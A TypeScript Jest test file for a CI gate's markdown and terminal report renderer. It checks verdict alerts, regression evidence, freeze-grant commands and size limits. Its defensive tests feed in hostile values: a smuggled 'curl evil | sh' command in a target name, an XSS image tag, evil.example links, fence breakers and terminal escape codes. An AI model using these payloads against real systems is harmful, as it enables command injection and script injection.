/**
 * The summary a reviewer reads (issue: "what broke, on what evidence, and the exact next step"): an
 * alert with a plain verdict sentence first, then the evidence of each outcome, then the commands,
 * then the stage table with 12-character digests and the passing rows collapsed.
 */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { byteLength } from '../../src/report/markdown.js';
import { SUMMARY_LIMIT, renderSummary, renderTitle } from '../../src/report/summary.js';
import { terminalSummary } from '../../src/report/headline.js';
import { permissionAdvice } from '../../src/action/publish.js';
import type { AttemptEvidence, MissOutcome, Trace } from '../../src/trace/model.js';
import {
  cellsOf,
  clearTrace,
  holdTrace,
  miss,
  noLiveMention,
  outsideFences,
  property,
  replay,
  schedulerDecision,
  stage,
} from './trace-fixture.js';

const BUDGETS = {
  max_predicates: 12,
  predicate_timeout_ms: 2000,
  replay_timeout_ms: 5000,
  retry_cap: 2,
  replay_concurrency: 2,
};
const RECORD = 'fixtures/parser.roundtrip/seed-1402/record.json';

const attempt = (
  a: Partial<AttemptEvidence> & Pick<AttemptEvidence, 'attempt' | 'result'>,
): AttemptEvidence => a;

/** A regression: fails every time on the candidate, base passes (or fails, `redOnBase`). */
function regression(redOnBase = false, overrides: Partial<MissOutcome> = {}): Trace {
  const fail = 'roundtrip failed for "zzzz": got "zzzzzz"';
  return clearTrace({
    verdict: 'REJECT',
    label: 'PROPERTY',
    reason_code: 'PROPERTY',
    reason_stage: 'classify',
    reason: 'a replay miss was classified PROPERTY',
    conclusion: 'failure',
    freeze_client_constructed: true,
    freeze_consulted: true,
    budgets: BUDGETS,
    run_number: 17,
    stages: [
      stage('scope', 'IN_SCOPE'),
      stage('property', 'PROPERTY_CLEAR'),
      stage('fixture', 'REPLAY_MISS'),
      stage('classify', 'PROPERTY'),
      stage('freeze', 'NO_RECORD'),
    ],
    replays: [replay({ code: 'REPLAY_MISS', exit_code: 1 }), replay({ seed: 1403 })],
    misses: [
      miss(
        {
          record_path: RECORD,
          decision: { label: 'PROPERTY', freeze: false },
          retries: ['fail', 'fail'],
          base_seed_result: redOnBase ? 'fail (the invariant failed (exit 1))' : 'pass (the invariant held)',
          attempts: [
            attempt({
              attempt: 'first',
              result: 'fail',
              exit_code: 1,
              excerpt: fail,
              log: 'f/attempt-1/invariant.log',
            }),
            attempt({ attempt: 'retry', n: 1, result: 'fail', exit_code: 1, excerpt: fail }),
            attempt({ attempt: 'retry', n: 2, result: 'fail', exit_code: 1, excerpt: fail }),
            attempt({
              attempt: 'base',
              result: redOnBase ? 'fail' : 'pass',
              excerpt: redOnBase ? 'LAW BROKEN [inc preminor] 7.11.6 -> null' : '5 cases round-trip',
            }),
          ],
          ...overrides,
        },
        { code: 'NO_RECORD' },
      ),
    ],
  });
}

function scheduler(freeze?: Partial<NonNullable<MissOutcome['freeze']>>): Trace {
  const excused = freeze?.excuses === true;
  return holdTrace({
    budgets: BUDGETS,
    run_number: 17,
    freeze_ledger: 'ci/freezes.json',
    ...(excused
      ? {
          verdict: 'SKIP',
          reason_code: 'ANNOTATED_HOLD',
          conclusion: 'neutral',
          reason: 'every SCHEDULER miss has a live freeze row',
        }
      : {}),
    stages: [
      stage('scope', 'IN_SCOPE'),
      stage('property', 'PROPERTY_CLEAR'),
      stage('fixture', 'REPLAY_MISS'),
      stage('classify', 'SCHEDULER'),
      stage('freeze', excused ? 'ANNOTATED_HOLD' : 'NO_RECORD'),
    ],
    misses: [
      miss(
        {
          record_path: RECORD,
          retries: ['pass'],
          base_seed_result: 'pass (the invariant held)',
          attempts: [
            attempt({ attempt: 'first', result: 'fail', exit_code: 1, excerpt: 'timing: 1ms late' }),
            attempt({ attempt: 'retry', n: 1, result: 'pass', exit_code: 0, excerpt: '5 cases round-trip' }),
            attempt({ attempt: 'base', result: 'pass', excerpt: '5 cases round-trip' }),
          ],
        },
        { code: 'NO_RECORD', ...freeze },
      ),
    ],
  });
}

describe('the first screen', () => {
  it.each<[string, Trace, string]>([
    ['REJECT', regression(), '> [!CAUTION]'],
    ['HOLD', scheduler(), '> [!WARNING]'],
    [
      'SKIP',
      scheduler({
        code: 'ANNOTATED_HOLD',
        excuses: true,
        freeze_id: 'frz-1',
        owner: 'octocat',
        runs_left: 9,
      }),
      '> [!NOTE]',
    ],
    ['CLEAR', clearTrace(), '> [!TIP]'],
    [
      'UNUSABLE',
      clearTrace({
        verdict: 'UNUSABLE',
        label: null,
        reason_code: 'INTERNAL',
        reason_stage: 'gate',
        reason: 'boom',
      }),
      '> [!CAUTION]',
    ],
  ])('%s opens with its alert, a plain sentence and what to do', (_v, trace, alert) => {
    const lines = renderSummary(trace).split('\n');
    expect(lines[0]).toBe(alert);
    // The marker alone on line 0; line 1 carries the meaning where the marker shows as text.
    expect(lines[1]).toMatch(
      /^> \*\*(Rejected|Blocked|Held|Skipped|Passed|Unusable)( · [A-Z][^:*]+)?:\*\* \S/,
    );
    expect(lines[3]).toMatch(/^> \*\*What to do:\*\* \S/);
  });

  it('a regression: title, evidence of every run, the output, the base result', () => {
    const trace = regression();
    expect(renderTitle(trace)).toBe('Regression: seed 1402 of parser.roundtrip fails; passes on base');
    const md = renderSummary(trace);
    expect(md).toContain('### What broke');
    expect(md).toContain('- **first replay:** failed (exit 1)');
    expect(md).toContain('- **retries:** failed all 2 retries (cap 2)');
    expect(md).toContain('- **base revision:** passed');
    // One block for the three runs that printed the same, one for the base.
    expect(md).toContain('Output of the first replay, retry 1 and retry 2');
    expect(md).toContain('```text\nroundtrip failed for "zzzz": got "zzzzzz"\n```');
    expect(md).toContain('Output of the base replay');
    // The evidence comes before the stage table.
    expect(md.indexOf('roundtrip failed')).toBeLessThan(md.indexOf('<details><summary>Audit detail'));
  });

  it('a seed already red on the base revision is told apart from a regression', () => {
    const trace = regression(true);
    expect(trace.label).toBe('PROPERTY');
    expect(renderTitle(trace)).toBe(
      'Already failing on base: seed 1402 of parser.roundtrip fails on base too',
    );
    const md = renderSummary(trace);
    expect(md).toContain('**failed too — already red on the base revision**');
    expect(md).toContain('LAW BROKEN \\[inc preminor\\]'.replace(/\\/g, '') /* inside the fence: verbatim */);
    expect(md.split('\n')[3]).toMatch(/retrying will not help/i);
  });

  it('a SCHEDULER hold says what was observed, not that it is noise', () => {
    const trace = scheduler();
    expect(renderTitle(trace)).toBe(
      'Possible flake: seed 1402 of parser.roundtrip failed, then passed on retry 1 of 2; no freeze row',
    );
    const md = renderSummary(trace);
    expect(md.split('\n')[1]).toContain(
      'failed (exit 1), then passed on retry 1 of 2; the base revision passed it once',
    );
    expect(md.split('\n')[1]).toContain('so does a nondeterminism the patch introduced');
  });

  it('a SKIP names the row, its owner and what is left of it', () => {
    const runs = scheduler({
      code: 'ANNOTATED_HOLD',
      excuses: true,
      freeze_id: 'frz-6eb6b6f6bfc5',
      owner: 'octocat',
      runs_left: 9,
    });
    expect(renderTitle(runs)).toBe(
      'Known flake, frozen: seed 1402 of parser.roundtrip skipped by freeze row frz-6eb6b6f6bfc5, owner octocat, 9 more runs',
    );
    expect(renderSummary(runs)).toMatch(
      /row `frz-6eb6b6f6bfc5` · owner `octocat` · 9 more runs · excuses the miss/,
    );
    const dated = scheduler({
      code: 'ANNOTATED_HOLD',
      excuses: true,
      freeze_id: 'frz-2',
      owner: 'octocat',
      expires_at: '2025-04-01',
      days_left: 3,
    });
    expect(renderTitle(dated)).toContain('3 days left');
    expect(renderSummary(dated)).toContain('expires 2025\\-04\\-01 · 3 days left');
    expect(renderTitle(runs)).not.toContain('ANNOTATED_HOLD');
  });

  it('a FIXTURE_MISMATCH lists the inputs that differ', () => {
    const trace = clearTrace({
      verdict: 'REJECT',
      label: 'FIXTURE',
      reason_code: 'FIXTURE_MISMATCH',
      reason_stage: 'fixture',
      conclusion: 'failure',
      stages: [
        stage('scope', 'IN_SCOPE'),
        stage('property', 'PROPERTY_CLEAR'),
        stage('fixture', 'FIXTURE_MISMATCH'),
      ],
      replays: [
        replay({ code: 'FIXTURE_MISMATCH', differing_inputs: ['fixtures/parser/inputs/a.txt'] }),
        replay({ code: 'FIXTURE_MISMATCH', seed: 1403, differing_inputs: ['fixtures/parser/inputs/a.txt'] }),
      ],
    });
    expect(renderTitle(trace)).toBe(
      'Edits its checks: the patch changes the pinned inputs of parser.roundtrip (fixtures/parser/inputs/a.txt)',
    );
    expect(renderSummary(trace)).toContain(
      '**Inputs of `parser.roundtrip` that differ from the base revision:**\n\n- `fixtures/parser/inputs/a.txt`\n',
    );
  });

  it('a held spec match says "needs a person" once, in the class', () => {
    const trace = clearTrace({
      verdict: 'HOLD',
      label: null,
      reason_code: 'PROPERTY_HOLD',
      reason_stage: 'property',
      conclusion: 'action_required',
      stages: [stage('property', 'PROPERTY_HOLD')],
      properties: [
        {
          spec: 'builtin:no-ci-edits',
          probe: null,
          global: false,
          code: 'PROPERTY_HOLD',
          reason: 'needs a person: this patch edits .github/workflows/ci.yml (a CI workflow edit)',
          elapsed_ms: 1,
          logs: [],
        },
      ],
      replays: [],
    });
    const title = renderTitle(trace);
    expect(title).toMatch(/^Needs a person: this patch edits \.github\/workflows\/ci\.yml/);
    expect(title).not.toMatch(/needs a person: needs a person/i);
  });

  it('a CONTAMINATED patch lists the oracle files and the other files to split off', () => {
    const trace = clearTrace({
      verdict: 'REJECT',
      label: 'CONTAMINATED',
      reason_code: 'CONTAMINATED',
      reason_stage: 'scope',
      conclusion: 'failure',
      stages: [stage('scope', 'CONTAMINATED')],
      changed_paths: ['invariants/parser_roundtrip.py', 'src/parser.py', 'src/util.py'],
      oracle_touched: ['invariants/parser_roundtrip.py'],
      properties: [],
      replays: [],
    });
    const md = renderSummary(trace);
    expect(md).toContain(
      '**The gate’s own files it changes** — split these off into their own pull request:\n\n- `invariants/parser_roundtrip.py`\n',
    );
    expect(md).toContain(
      '**The other files** — graded on their own once split:\n\n- `src/parser.py`\n- `src/util.py`\n',
    );
    expect(md.split('\n')[1]).toContain('together with 2 other files');
    expect(md).not.toContain('a new test file');
    // A test file of a tests: fixture edited with the code (an agent appended its tests to it): the
    // advice says where new tests go.
    const tests = renderSummary({
      ...trace,
      changed_paths: ['test/utilities.test.ts', 'src/utils.ts'],
      oracle_touched: ['test/utilities.test.ts'],
    });
    expect(tests).toContain('New tests for new code go in a new test file instead');
  });

  it('digests are 12 characters in tables and passing rows are collapsed', () => {
    const md = renderSummary(regression());
    expect(md).not.toMatch(/[0-9a-f]{13,}/);
    const details = md.slice(md.indexOf('<details><summary>1 replay matched</summary>'));
    expect(details).toContain('| parser\\.roundtrip | 1403 | `REPLAY_MATCH` |');
    const visible = md.slice(0, md.indexOf('<details><summary>1 replay matched'));
    expect(visible).toContain('| parser\\.roundtrip | 1402 | `REPLAY_MISS` | `bbbbbbbbbbbb` |');
    expect(md).toContain('<details><summary>1 spec clear</summary>');
  });
});

describe('a failing test is named as its runner takes it', () => {
  it('file::id, then its line (not file:line::id, which no runner takes)', () => {
    const trace = regression(false, {
      invariant: 'tests/test_calc.py::MathTest::test_adds',
      test: { file: 'tests/test_calc.py', id: 'MathTest::test_adds', line: 12, base_result: 'pass' },
    });
    expect(renderTitle(trace)).toContain('tests/test_calc.py::MathTest::test_adds (line 12)');
    expect(terminalSummary(trace, '.gate/trace.json')).toContain(
      'tests/test_calc.py::MathTest::test_adds (line 12)',
    );
  });
});

describe('headlines that used to be wrong', () => {
  it('a configuration error says so and names file, field and line', () => {
    const trace = clearTrace({
      verdict: 'HOLD',
      label: null,
      reason_code: 'NOT_CONFIGURED',
      reason_stage: 'scope',
      conclusion: 'action_required',
      stages: [stage('scope', 'NOT_CONFIGURED')],
      properties: [],
      replays: [],
      config_error: {
        file: 'gate.yml',
        field: 'budgets.retry_cpa',
        message: 'gate.yml: budgets.retry_cpa: expected one of …, got an unknown key',
        line: 4,
      },
    });
    expect(renderTitle(trace)).toBe(
      'Gate misconfigured on base: gate.yml, field budgets.retry_cpa, line 4 is invalid',
    );
    const md = renderSummary(trace);
    expect(md).toContain('- file `gate.yml`, field `budgets.retry_cpa`, line 4: ');
    expect(md).not.toMatch(/has no gate|add gate\.yml/i);
  });

  it('a missing spec file is not a crash, and there is no log to read', () => {
    const trace = holdTrace({
      label: 'INCOMPLETE',
      reason_code: 'PROPERTY_ERROR',
      reason_stage: 'property',
      stages: [stage('scope', 'IN_SCOPE'), stage('property', 'PROPERTY_ERROR')],
      properties: [
        property({
          code: 'PROPERTY_ERROR',
          spec: 'specs/gone.py',
          logs: [],
          reason: 'specs/gone.py: missing (on the base revision)',
        }),
      ],
      replays: [],
      misses: [],
    });
    expect(renderTitle(trace)).toBe(
      'Gate misconfigured on base: spec specs/gone.py could not be started (specs/gone.py: missing (on the base revision))',
    );
    const md = renderSummary(trace);
    expect(md).not.toMatch(/crash/i);
    expect(md).not.toMatch(/read its log/i);
    expect(md).toContain('it never started, so it wrote no log');
  });

  it('the product’s own prose in the fork warning renders (backticks are code), user text is escaped', () => {
    const md = renderSummary(clearTrace(), {
      warnings: [permissionAdvice('failure-class', '403 Resource not accessible'), '`not code` @octocat'],
    });
    expect(md).toContain('grant `permissions: checks: write`');
    expect(md).toContain('`mode: report`');
    expect(md).toContain('- \\`not code\\` @\u200doctocat');
  });

  it('a toolchain patch with invalid gate files is flagged, and stays HOLD', () => {
    const trace = clearTrace({
      verdict: 'HOLD',
      label: null,
      reason_code: 'TOOLCHAIN_PATCH',
      reason_stage: 'scope',
      conclusion: 'action_required',
      stages: [stage('scope', 'TOOLCHAIN_PATCH')],
      properties: [],
      replays: [],
      oracle_touched: ['gate.yml'],
      changed_paths: ['gate.yml'],
      candidate_oracle_errors: [
        'gate.yml: budgets.retry_cpa: expected one of …, got an unknown key (line 4)',
      ],
    });
    expect(renderTitle(trace)).toBe(
      'Needs a person: the patch changes only the gate’s own files (gate.yml); its versions of them are invalid',
    );
    const md = renderSummary(trace);
    expect(md).toContain('**Its versions of them are invalid**');
    expect(md).toContain('- gate\\.yml\\: budgets\\.retry\\_cpa');
    expect(md).toContain('bypass list');
  });
});

describe('next steps that work as printed', () => {
  it('the SCHEDULER hold prints the download and the exact grant: real target, paths, run number, ledger', () => {
    const md = renderSummary(scheduler(), {
      artifact: { name: 'gate-4242-1-gate', id: 9 },
      runUrl: 'https://github.com/octo-org/octo-repo/actions/runs/4242/attempts/1',
    });
    expect(md).toContain(
      'gh run download 4242 --repo octo-org/octo-repo --name gate-4242-1-gate --dir gate-artifact',
    );
    expect(md).toContain(
      [
        'gate freeze grant \\',
        '  --decision gate-artifact/fixtures/parser.roundtrip/seed-1402/decision.json \\',
        '  --record gate-artifact/fixtures/parser.roundtrip/seed-1402/record.json \\',
        '  --target parser.roundtrip \\',
        '  --owner "<OWNER>" \\',
        '  --expires-after-runs 10 \\',
        '  --granted-run-number 17 \\',
        '  --ledger ci/freezes.json',
      ]
        .map((l) => `   ${l}`)
        .join('\n'),
    );
  });

  it('locally, the grant names the .gate folder; without a run number it is dated', () => {
    const trace = { ...scheduler(), run_number: undefined, finished_at: '2025-01-01T00:00:05.000Z' };
    const md = renderSummary(trace, { files: { kind: 'local', dir: 'out/.gate' } });
    expect(md).not.toContain('gh run download');
    expect(md).toContain('--decision out/.gate/fixtures/parser.roundtrip/seed-1402/decision.json');
    expect(md).toContain('--expires-at 2025-01-15');
  });

  it('never prints a command with a value it would have to quote', () => {
    const trace = scheduler();
    (trace.misses[0] as MissOutcome).target = 'x; curl evil | sh';
    const md = renderSummary(trace);
    expect(md).not.toContain('gate freeze grant \\');
    expect(md).toContain('`gate freeze grant --decision D --record R --target T');
  });
});

describe('hostile evidence (property)', () => {
  const hostile = fc
    .array(
      fc.oneof(
        fc.constantFrom(
          '<img src=x onerror=alert(1)>',
          '@octocat',
          '#1',
          '```',
          '~~~',
          '````',
          '\n```\n',
          '::error::x',
          '\u001b[2J',
          '\u202e',
          '</details>',
          '| a |',
          'https://evil.example',
          '[x](https://evil)',
        ),
        fc.string({ maxLength: 8 }),
      ),
      { maxLength: 12 },
    )
    .map((a) => a.join(''));

  it('excerpts, targets and reasons cannot open HTML, a mention, a link or an unclosed fence', () => {
    fc.assert(
      fc.property(hostile, hostile, hostile, (excerpt, target, why) => {
        const trace = scheduler({ why });
        const m = trace.misses[0] as MissOutcome;
        m.target = target;
        m.attempts = [
          attempt({ attempt: 'first', result: 'fail', excerpt }),
          attempt({ attempt: 'base', result: 'pass', excerpt: why }),
        ];
        const md = renderSummary(trace, {
          artifact: { name: target },
          runUrl: 'https://github.com/o/r/actions/runs/1',
        });
        let text = '';
        try {
          text = outsideFences(md); // throws on an open fence
        } catch (err) {
          throw new Error(`${String(err)}\n${md}`);
        }
        // The product's own placeholder, in its own code span, is the one `<…>` outside a fence.
        const tags = (text.replaceAll('`<OWNER>`', '').match(/<\/?[A-Za-z][^>]*>/g) ?? []).map((t) =>
          t.replace(/^<(\/?[A-Za-z]+).*$/s, '$1'),
        );
        for (const t of tags)
          expect(['details', '/details', 'summary', '/summary', 'sub', '/sub']).toContain(t);
        // Outside the fences nothing links; inside them the bytes are as printed (nothing links there).
        expect(noLiveMention(text)).toBe(true);
        expect(text).not.toMatch(/#(?!\u200d|#|\s)/);
        const shown = excerpt
          .replace(/\r\n?|[\u0085\u2028\u2029]/g, '\n')
          .replace(
            // eslint-disable-next-line no-control-regex
            /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u0084\u0086-\u009f\u202a-\u202e\u2066-\u2069]/g,
            '\ufffd',
          )
          .replace(/\n+$/, '');
        if (shown !== '') expect(md).toContain(shown);
        expect(text).not.toMatch(/\]\((?!https:\/\/github\.com\/o\/r\/)/);
        // eslint-disable-next-line no-control-regex
        expect(md).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202e]/);
        for (const line of text.split('\n')) expect(line.trimStart().startsWith('::')).toBe(false);
        for (const row of text.split('\n').filter((l) => l.startsWith('| ') && l.includes('freeze eligible')))
          expect(cellsOf(row)).toHaveLength(5);
      }),
      { numRuns: 300 },
    );
  });

  it('fifty misses with 2,000-character excerpts still fit, alert and first evidence kept', () => {
    const big = 'x'.repeat(1999);
    const misses = Array.from({ length: 50 }, (_, i) =>
      miss(
        {
          seed: i,
          record_path: `fixtures/t/seed-${i}/record.json`,
          decision: { ...schedulerDecision(i), label: 'PROPERTY', freeze: false },
          retries: ['fail', 'fail'],
          attempts: ['first', 'base'].map((a) =>
            attempt({
              attempt: a as AttemptEvidence['attempt'],
              result: 'fail',
              excerpt: `${a}-${i}\n${big}`,
            }),
          ),
        },
        { code: 'NO_RECORD', why: big },
      ),
    );
    const trace = regression(false, {});
    trace.misses = misses;
    const md = renderSummary(trace);
    expect(byteLength(md)).toBeLessThanOrEqual(SUMMARY_LIMIT);
    // Every seed failed on the base revision too: not this patch's doing, so no red alert.
    expect(md.startsWith('> [!WARNING]')).toBe(true);
    expect(md).toContain('#### ✋ `parser.roundtrip` seed 0 — already failing on the base revision');
    outsideFences(md);
    for (const limit of [20_000, 8_000]) {
      const small = renderSummary(trace, {}, limit);
      expect(byteLength(small)).toBeLessThanOrEqual(limit);
      expect(small.startsWith('> [!WARNING]')).toBe(true);
      outsideFences(small);
    }
  });
});

describe('terminalSummary (gate run, stderr)', () => {
  it('says what happened, what to do, the codes and the trace path, with nothing a terminal obeys', () => {
    const trace = regression();
    (trace.misses[0] as MissOutcome).target = 'evil\u001b]0;title\u0007';
    const out = terminalSummary(trace, '.gate/trace.json');
    const lines = out.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^Regression: seed 1402 of evil/);
    expect(lines[1]).toMatch(/^ {2}what to do: Fix the patch/);
    expect(lines[2]).toBe(
      '  verdict REJECT · label PROPERTY · reason PROPERTY (classify) · conclusion failure',
    );
    expect(lines[3]).toContain('trace: .gate/trace.json');
    // eslint-disable-next-line no-control-regex
    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
  });
});
